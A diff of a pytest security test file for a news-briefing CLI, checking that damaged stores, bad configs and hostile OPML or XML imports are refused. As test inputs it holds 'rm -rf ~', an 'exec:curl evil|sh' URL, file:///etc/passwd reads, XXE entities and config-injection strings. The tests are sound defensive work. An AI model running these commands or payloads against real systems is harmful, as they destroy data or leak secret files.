@@ -29,10 +29,10 @@ import tomllib
 from pathlib import Path
 
 import pytest
-from tests.helpers.hostile import STORY, run_measured, write_story_config
 
 from briefing.model import ParsedArticle
 from briefing.store.database import SCHEMA_VERSION, Store
+from tests.helpers.hostile import STORY, run_measured, write_story_config
 
 ARTICLE = "Ankara hosts Damascus\n\nSyria and Türkiye discuss a defense pact in Ankara.\n"
 
@@ -55,15 +55,26 @@ def one_line_error(done, *must_contain: str) -> str:
 
 # -- 7. stores that are not ours, damaged, or newer ---------------------------------------------------
 
+
 @pytest.fixture(scope="module")
 def good_store_bytes(tmp_path_factory) -> bytes:
     """A real store of 300 articles over many pages, checkpointed into one file."""
     path = tmp_path_factory.mktemp("template") / "store.db"
     with Store(path) as store:
-        store.upsert_articles([ParsedArticle(key=f"k{i}", title=f"Syria report {i}", source="Outlet",
-                                             link=f"https://example.invalid/{i}", published=None,
-                                             text="Syria and Türkiye discuss a defense pact. " * 40)
-                               for i in range(300)], "Feed")
+        store.upsert_articles(
+            [
+                ParsedArticle(
+                    key=f"k{i}",
+                    title=f"Syria report {i}",
+                    source="Outlet",
+                    link=f"https://example.invalid/{i}",
+                    published=None,
+                    text="Syria and Türkiye discuss a defense pact. " * 40,
+                )
+                for i in range(300)
+            ],
+            "Feed",
+        )
     data = path.read_bytes()
     assert not path.with_name("store.db-wal").exists()
     assert len(data) > 100_000
@@ -122,19 +133,22 @@ def _store_case(kind: str, command: str):
 STORE_CASES = [_store_case("newer-version", command) for command in COMMANDS] + [
     _store_case(kind, command)
     for kind in ("not-sqlite", "other-sqlite", "cut-in-half", "garbage-after-header", "garbage-pages")
-    for command in ("dashboard", "export", "refresh")]
+    for command in ("dashboard", "export", "refresh")
+]
 
 
 @pytest.mark.parametrize(("kind", "command"), STORE_CASES)
-def test_a_store_briefing_cannot_use_is_refused_in_one_line_and_left_as_it_was(kind, command, tmp_path,
-                                                                                good_store_bytes):
+def test_a_store_briefing_cannot_use_is_refused_in_one_line_and_left_as_it_was(
+    kind, command, tmp_path, good_store_bytes
+):
     write_story_config(tmp_path / "feeds.toml", [])
     (tmp_path / "article.txt").write_text(ARTICLE)
     store = tmp_path / "store.db"
     make_bad_store(kind, good_store_bytes, store)
     before = snapshot(tmp_path)
-    done = run_measured(["--config", str(tmp_path / "feeds.toml"), "--cache", str(store),
-                         *COMMANDS[command]], tmp_path, timeout=30)
+    done = run_measured(
+        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(store), *COMMANDS[command]], tmp_path, timeout=30
+    )
     line = one_line_error(done, str(store), "--cache NEW_FILE")
     assert done.stdout == b""
     if kind == "newer-version":
@@ -154,17 +168,27 @@ BAD_CONFIGS = {
     "settings-unknown": (STORY + "[settings]\nretries = 3\n", "settings.retries: unknown key"),
     "settings-not-table": (STORY.replace("[story]", 'settings = "fast"\n[story]'), "settings: must be a table"),
     "enabled-string": (STORY + FEED + 'enabled = "yes"\n', "feeds[0].enabled: must be true or false"),
-    "name-integer": (STORY + '[[feeds]]\nname = 3\nurl = "https://a.example/"\n',
-                     "feeds[0].name: must be a string, not an integer"),
-    "feeds-a-string": (STORY.replace("[story]", 'feeds = "https://a.example/rss"\n[story]'),
-                       "feeds: must be an array of tables"),
-    "aliases-string": (STORY + '[[story.actors]]\nname = "B"\naliases = "Bee"\n',
-                       "story.actors[1].aliases: must be a list of strings"),
+    "name-integer": (
+        STORY + '[[feeds]]\nname = 3\nurl = "https://a.example/"\n',
+        "feeds[0].name: must be a string, not an integer",
+    ),
+    "feeds-a-string": (
+        STORY.replace("[story]", 'feeds = "https://a.example/rss"\n[story]'),
+        "feeds: must be an array of tables",
+    ),
+    "aliases-string": (
+        STORY + '[[story.actors]]\nname = "B"\naliases = "Bee"\n',
+        "story.actors[1].aliases: must be a list of strings",
+    ),
     "file-url": (STORY + '[[feeds]]\nname = "A"\nurl = "file:///etc/passwd"\n', "scheme 'file' is not allowed"),
-    "javascript-url": (STORY + '[[feeds]]\nname = "A"\nurl = "javascript:alert(1)"\n',
-                       "scheme 'javascript' is not allowed"),
-    "duplicate-by-case": (STORY + FEED + '[[feeds]]\nname = "a"\nurl = "https://b.example/rss"\n',
-                          "duplicate feed name 'a'"),
+    "javascript-url": (
+        STORY + '[[feeds]]\nname = "A"\nurl = "javascript:alert(1)"\n',
+        "scheme 'javascript' is not allowed",
+    ),
+    "duplicate-by-case": (
+        STORY + FEED + '[[feeds]]\nname = "a"\nurl = "https://b.example/rss"\n',
+        "duplicate feed name 'a'",
+    ),
     "feed-unknown-key": (STORY + FEED + 'exec = "rm -rf ~"\n', "feeds[0].exec: unknown key"),
     "not-utf8": (None, "not UTF-8"),
 }
@@ -182,23 +206,39 @@ def _write_config(path: Path, name: str) -> None:
 def filled_store(tmp_path) -> Path:
     store = tmp_path / "store.db"
     with Store(store) as opened:
-        opened.upsert_articles([ParsedArticle(key="k1", title="Syria report", source="Outlet",
-                                              link="https://example.invalid/1", published=None,
-                                              text="Syria and Türkiye discuss a defense pact.")], "A")
+        opened.upsert_articles(
+            [
+                ParsedArticle(
+                    key="k1",
+                    title="Syria report",
+                    source="Outlet",
+                    link="https://example.invalid/1",
+                    published=None,
+                    text="Syria and Türkiye discuss a defense pact.",
+                )
+            ],
+            "A",
+        )
     return store
 
 
 def _opml_file(folder: Path) -> Path:
     path = folder / "subs.opml"
-    path.write_text('<?xml version="1.0"?><opml version="2.0"><body>'
-                    '<outline text="New" xmlUrl="https://new.example/rss"/></body></opml>')
+    path.write_text(
+        '<?xml version="1.0"?><opml version="2.0"><body>'
+        '<outline text="New" xmlUrl="https://new.example/rss"/></body></opml>'
+    )
     return path
 
 
 ALL_COMMANDS = {
-    "refresh": ["refresh"], "feeds": ["feeds"], "export": ["export", "--format", "md"],
-    "import": ["import", "article.txt"], "prune": ["prune", "--older-than", "90d"],
-    "opml-import": ["opml", "import", "subs.opml"], "opml-export": ["opml", "export"],
+    "refresh": ["refresh"],
+    "feeds": ["feeds"],
+    "export": ["export", "--format", "md"],
+    "import": ["import", "article.txt"],
+    "prune": ["prune", "--older-than", "90d"],
+    "opml-import": ["opml", "import", "subs.opml"],
+    "opml-export": ["opml", "export"],
 }
 
 
@@ -248,9 +288,13 @@ def test_a_feed_url_without_a_host_is_named_as_such(tmp_path, filled_store):
 
 # -- 8. OPML files -----------------------------------------------------------------------------------------
 
+
 def _opml(*outlines: str) -> bytes:
-    return ('<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
-            + "".join(outlines) + "</body></opml>").encode()
+    return (
+        '<?xml version="1.0"?><opml version="2.0"><head><title>x</title></head><body>'
+        + "".join(outlines)
+        + "</body></opml>"
+    ).encode()
 
 
 BAD_OPML = {
@@ -261,9 +305,12 @@ BAD_OPML = {
     "feed-scheme": (_opml('<outline text="F" xmlUrl="feed://example.com/rss"/>'), "has a feed: URL"),
     "exec-alone": (_opml('<outline text="Run" xmlUrl="exec:curl evil|sh"/>'), "has a exec: URL"),
     "relative-url": (_opml('<outline text="Rel" xmlUrl="/feed.xml"/>'), "a URL that is not absolute"),
-    "external-entity": (b'<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
-                        b'<opml version="2.0"><body><outline text="&x;" xmlUrl="https://a.example/"/>'
-                        b"</body></opml>", "refused"),
+    "external-entity": (
+        b'<?xml version="1.0"?><!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
+        b'<opml version="2.0"><body><outline text="&x;" xmlUrl="https://a.example/"/>'
+        b"</body></opml>",
+        "refused",
+    ),
     "too-big": ("sparse", "too large for an OPML file"),
     "a-folder": ("folder", "is a directory"),
 }
@@ -282,8 +329,9 @@ def test_a_bad_opml_file_is_one_line_and_changes_nothing(name, tmp_path, filled_
     else:
         opml.write_bytes(content)
     before = snapshot(tmp_path)
-    done = run_measured(["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store),
-                         "opml", "import", str(opml)], tmp_path)
+    done = run_measured(
+        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "opml", "import", str(opml)], tmp_path
+    )
     one_line_error(done, str(opml), expected)
     assert done.returncode == 2 and done.stdout == b""
     assert snapshot(tmp_path) == before
@@ -294,24 +342,25 @@ def test_opml_names_cannot_rewrite_the_config(tmp_path, filled_store):
     control characters, markup), it ends up as one feed's name and nothing
     else in the config changes."""
     config = tmp_path / "feeds.toml"
-    original = (STORY + "\n# my settings: keep this comment\n[settings]\ntimeout = 7\n\n"
-                + FEED).encode()
+    original = (STORY + "\n# my settings: keep this comment\n[settings]\ntimeout = 7\n\n" + FEED).encode()
     config.write_bytes(original)
     injections = [
         'Evil"\n[settings]\ntimeout = 0.001\n#',
-        "Evil2\"\"\"\nurl = \"file:///etc/passwd\"",
-        "Evil3 \\\" \\u0000 \\ [bold]x[/]",
+        'Evil2"""\nurl = "file:///etc/passwd"',
+        'Evil3 \\" \\u0000 \\ [bold]x[/]',
         "Evil4 &#10;[[feeds]]&#10;name = &quot;X&quot;&#10;url = &quot;https://x.example/&quot;",
         "Evil5 \x9b2J \x85 \u202e [bold]x[/] \x9d52;c;cm0=\x9c",
     ]
     from xml.sax.saxutils import quoteattr
 
-    outlines = [f"<outline text={quoteattr(name)} xmlUrl=\"https://evil{i}.example/rss\"/>"
-                for i, name in enumerate(injections)]
+    outlines = [
+        f'<outline text={quoteattr(name)} xmlUrl="https://evil{i}.example/rss"/>' for i, name in enumerate(injections)
+    ]
     (tmp_path / "subs.opml").write_bytes(_opml(*outlines))
     store_before = filled_store.read_bytes()
-    done = run_measured(["--config", str(config), "--cache", str(filled_store), "opml", "import",
-                         str(tmp_path / "subs.opml")], tmp_path)
+    done = run_measured(
+        ["--config", str(config), "--cache", str(filled_store), "opml", "import", str(tmp_path / "subs.opml")], tmp_path
+    )
     assert done.returncode == 0, done.err
     after = config.read_bytes()
     assert after.startswith(original)
@@ -319,8 +368,9 @@ def test_opml_names_cannot_rewrite_the_config(tmp_path, filled_store):
     assert data["settings"] == {"timeout": 7}
     assert data["story"] == tomllib.loads(original.decode())["story"]
     feeds = data["feeds"]
-    assert [f["url"] for f in feeds] == ["https://a.example/rss"] + [f"https://evil{i}.example/rss"
-                                                                      for i in range(len(injections))]
+    assert [f["url"] for f in feeds] == ["https://a.example/rss"] + [
+        f"https://evil{i}.example/rss" for i in range(len(injections))
+    ]
     assert all(set(f) == {"name", "url"} for f in feeds)
     for feed in feeds[1:]:
         assert "\n" not in feed["name"] and "\x1b" not in feed["name"] and "\u202e" not in feed["name"]
@@ -328,9 +378,13 @@ def test_opml_names_cannot_rewrite_the_config(tmp_path, filled_store):
     # What was appended is a comment and [[feeds]] blocks of a name and a URL: nothing else.
     import re
 
-    for line in after[len(original):].decode().splitlines():
-        assert line == "" or line.startswith("# Imported from ") or line == "[[feeds]]" \
-            or re.fullmatch(r'(name|url) = "([^"\\]|\\.)*"', line), line
+    for line in after[len(original) :].decode().splitlines():
+        assert (
+            line == ""
+            or line.startswith("# Imported from ")
+            or line == "[[feeds]]"
+            or re.fullmatch(r'(name|url) = "([^"\\]|\\.)*"', line)
+        ), line
     assert filled_store.read_bytes() == store_before  # OPML import never touches the store
     listed = run_measured(["--config", str(config), "--cache", str(filled_store), "feeds"], tmp_path)
     assert listed.returncode == 0, listed.err
@@ -341,8 +395,9 @@ def test_opml_import_into_a_broken_config_changes_nothing(tmp_path, filled_store
     config.write_text(STORY + FEED + 'enabled = "yes"\n')
     _opml_file(tmp_path)
     before = snapshot(tmp_path)
-    done = run_measured(["--config", str(config), "--cache", str(filled_store), "opml", "import", "subs.opml"],
-                        tmp_path)
+    done = run_measured(
+        ["--config", str(config), "--cache", str(filled_store), "opml", "import", "subs.opml"], tmp_path
+    )
     one_line_error(done, str(config), "feeds[0].enabled")
     assert snapshot(tmp_path) == before
 
@@ -357,8 +412,9 @@ def test_opml_import_into_a_read_only_folder_fails_cleanly(tmp_path, filled_stor
     folder.chmod(0o555)
     try:
         before = config.read_bytes()
-        done = run_measured(["--config", str(config), "--cache", str(filled_store), "opml", "import",
-                             "subs.opml"], tmp_path)
+        done = run_measured(
+            ["--config", str(config), "--cache", str(filled_store), "opml", "import", "subs.opml"], tmp_path
+        )
         one_line_error(done, str(config))
         assert config.read_bytes() == before
     finally:
@@ -397,8 +453,10 @@ def test_a_bad_import_is_one_line_and_leaves_the_store_as_it_was(name, tmp_path,
         bad.write_bytes(content)
     before = snapshot(tmp_path)
     # The good file comes first: it must not be imported either.
-    done = run_measured(["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store),
-                         "import", str(good), str(bad)], tmp_path)
+    done = run_measured(
+        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import", str(good), str(bad)],
+        tmp_path,
+    )
     one_line_error(done, str(bad), expected)
     assert done.returncode == 2
     assert snapshot(tmp_path) == before
@@ -411,8 +469,9 @@ def test_an_import_path_that_does_not_exist(tmp_path, filled_store):
     write_story_config(tmp_path / "feeds.toml", [])
     before = snapshot(tmp_path)
     missing = tmp_path / "nowhere" / "gone.txt"
-    done = run_measured(["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import",
-                         str(missing)], tmp_path)
+    done = run_measured(
+        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import", str(missing)], tmp_path
+    )
     one_line_error(done, str(missing), "no such file")
     assert snapshot(tmp_path) == before
 
@@ -422,15 +481,19 @@ def test_an_xml_file_with_external_entities_imports_nothing_from_them(tmp_path, 
     secret = tmp_path / "secret.txt"
     secret.write_text("SECRET-CANARY-4411\n")
     evil = tmp_path / "evil.xml"
-    evil.write_bytes(f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY s SYSTEM "file://{secret}">]>'
-                     '<rss version="2.0"><channel><title>t</title><item><title>Syria &s;</title>'
-                     "<description>Syria and Türkiye &s;</description></item></channel></rss>".encode())
-    done = run_measured(["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import",
-                         str(evil)], tmp_path)
+    evil.write_bytes(
+        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY s SYSTEM "file://{secret}">]>'
+        '<rss version="2.0"><channel><title>t</title><item><title>Syria &s;</title>'
+        "<description>Syria and Türkiye &s;</description></item></channel></rss>".encode()
+    )
+    done = run_measured(
+        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import", str(evil)], tmp_path
+    )
     assert "Traceback" not in done.err
     with sqlite3.connect(filled_store) as db:
-        texts = [value for row in db.execute("SELECT title, text, source, author FROM articles")
-                 for value in row if value]
+        texts = [
+            value for row in db.execute("SELECT title, text, source, author FROM articles") for value in row if value
+        ]
     db.close()
     assert not any("SECRET-CANARY" in text for text in texts)
 
@@ -441,7 +504,9 @@ def test_the_store_is_never_replaced_by_a_copy(tmp_path, filled_store):
     inode = filled_store.stat().st_ino
     shutil.copy(filled_store, tmp_path / "copy.db")
     (tmp_path / "bad.json").write_bytes(b"{not json")
-    run_measured(["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import",
-                  str(tmp_path / "bad.json")], tmp_path)
+    run_measured(
+        ["--config", str(tmp_path / "feeds.toml"), "--cache", str(filled_store), "import", str(tmp_path / "bad.json")],
+        tmp_path,
+    )
     assert filled_store.stat().st_ino == inode
     assert filled_store.read_bytes() == (tmp_path / "copy.db").read_bytes()
